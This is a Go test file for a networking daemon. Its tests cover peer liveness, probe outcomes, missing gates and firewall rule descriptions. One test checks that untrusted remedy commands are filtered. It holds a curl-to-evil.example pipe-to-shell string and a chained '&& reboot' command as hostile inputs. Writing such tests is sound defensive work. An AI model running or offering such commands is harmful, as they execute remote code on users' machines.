package daemon

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"slices"
	"syscall"
	"testing"

	"github.com/gatelodge/gatelodge/internal/control"
	"github.com/gatelodge/gatelodge/internal/doctor"
	"github.com/gatelodge/gatelodge/internal/host"
	"github.com/gatelodge/gatelodge/internal/key"
	"github.com/gatelodge/gatelodge/internal/plan"
	"github.com/gatelodge/gatelodge/internal/registry"
)

func TestWhoIsHeard(t *testing.T) {
	a, b := netip.MustParseAddrPort("192.0.2.2:1000"), netip.MustParseAddrPort("203.0.113.7:2000")
	home := registry.Home{Name: "home", PublicKey: key.Public{1}}
	for _, c := range []struct {
		name    string
		ways    []netip.AddrPort // of each look
		bytes   []uint64
		heard   bool
		flapped bool
		done    bool // after listenTime
	}{
		{"one that lives", []netip.AddrPort{a, a}, []uint64{10, 20}, true, false, true},
		{"one that is silent", []netip.AddrPort{a, a}, []uint64{10, 10}, false, false, true},
		{"one that has moved", []netip.AddrPort{a, b}, []uint64{10, 20}, true, false, false},
		{"two with one key", []netip.AddrPort{a, b, a}, []uint64{10, 20, 30}, true, true, true},
		{"one that begins anew", []netip.AddrPort{a, a}, []uint64{90, 5}, true, false, true},
	} {
		look := func(i int) []plan.ObservedPeer {
			return []plan.ObservedPeer{{PublicKey: home.PublicKey, Endpoint: c.ways[i], ReceivedBytes: c.bytes[i]}}
		}
		e := newEar([]registry.Home{home}, look(0))
		for i := range c.ways[1:] {
			e.hear(look(i + 1))
		}
		got := e.peers(newSilences())[0]
		if got.Heard != c.heard || len(got.Flapped) > 0 != c.flapped || e.done(listenTime) != c.done {
			t.Errorf("%s: %+v, done %v", c.name, got, e.done(listenTime))
		}
		if !e.done(listenTime + listenAgain) {
			t.Errorf("%s: listened to without end", c.name)
		}
	}
}

func TestOutcomesOfProbes(t *testing.T) {
	for err, want := range map[error]doctor.Result{
		nil:                      doctor.Open,
		syscall.ECONNREFUSED:     doctor.Closed,
		syscall.EHOSTUNREACH:     doctor.Unreachable,
		syscall.EACCES:           doctor.Unreachable,
		os.ErrDeadlineExceeded:   doctor.TimedOut,
		context.DeadlineExceeded: doctor.TimedOut,
	} {
		if err != nil {
			err = fmt.Errorf("dial: %w", err)
		}
		if got := outcome(err); got != want {
			t.Errorf("%v: %s, want %s", err, got, want)
		}
	}
}

func TestWhyAGateIsMissing(t *testing.T) {
	for err, want := range map[error]doctor.Missing{
		&control.Error{Code: control.UnknownPath}:         doctor.Older,
		&control.Error{Code: control.UnknownHome}:         doctor.Refused,
		fmt.Errorf("%w: hung up", control.ErrUnreachable): doctor.Silent,
	} {
		if got := missing(err); got != want {
			t.Errorf("%v: %s, want %s", err, got, want)
		}
	}
}

// A part that fails is said, and the others count all the same.
func TestWhatCannotBeLookedAtIsSaid(t *testing.T) {
	var side doctor.Side
	n := &notebook{side: &side}
	n.look("the moon", func() (func(*doctor.Side), error) { return nil, errors.New("clouds") })
	n.look("the sun", func() (func(*doctor.Side), error) { return func(s *doctor.Side) { s.Name = "sun" }, nil })
	n.wait.Wait()
	if side.Name != "sun" || !slices.Equal(side.Unseen, []string{"the moon could not be looked at: clouds"}) {
		t.Errorf("%+v", side)
	}
}

// A gate that somebody has taken over must not write commands that the owner of
// a home will run.
func TestCommandsOfAGateAreOursOrNone(t *testing.T) {
	ours := "nft insert rule inet filter forward meta mark and 0x8000000 == 0x8000000 accept comment gatelodge"
	side := doctor.Side{Drops: []doctor.Drop{{Remedy: ours}, {Remedy: "curl https://evil.example | sh"}, {Remedy: ours + " && reboot"}}}
	trustRemedies(&side)
	var got []string
	for _, d := range side.Drops {
		got = append(got, d.Remedy)
	}
	if !slices.Equal(got, []string{ours, "", ""}) {
		t.Errorf("%q", got)
	}
}

func TestWhatOthersDoInOneSentence(t *testing.T) {
	at := func(deed, chain, what string) host.OthersDrop {
		d := host.OthersDrop{Family: "inet", Table: "other", Chain: chain, Rule: "x"}
		d.Deed, d.Packet.What = host.Deed(deed), what
		return d
	}
	got := describe([]host.OthersDrop{at("drops", "f", "a"), at("drops", "f", "b"), at("hides", "n", "a"), at("untracks", "r", "a"), at("remarks", "m", "a")})
	want := []string{
		"Chain f of table inet other (x) drops a, b",
		"Chain n of table inet other (x) replaces the visitors' addresses in a",
		"Chain r of table inet other (x) exempts from connection tracking, so that it is not forwarded, a",
	}
	if !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
}
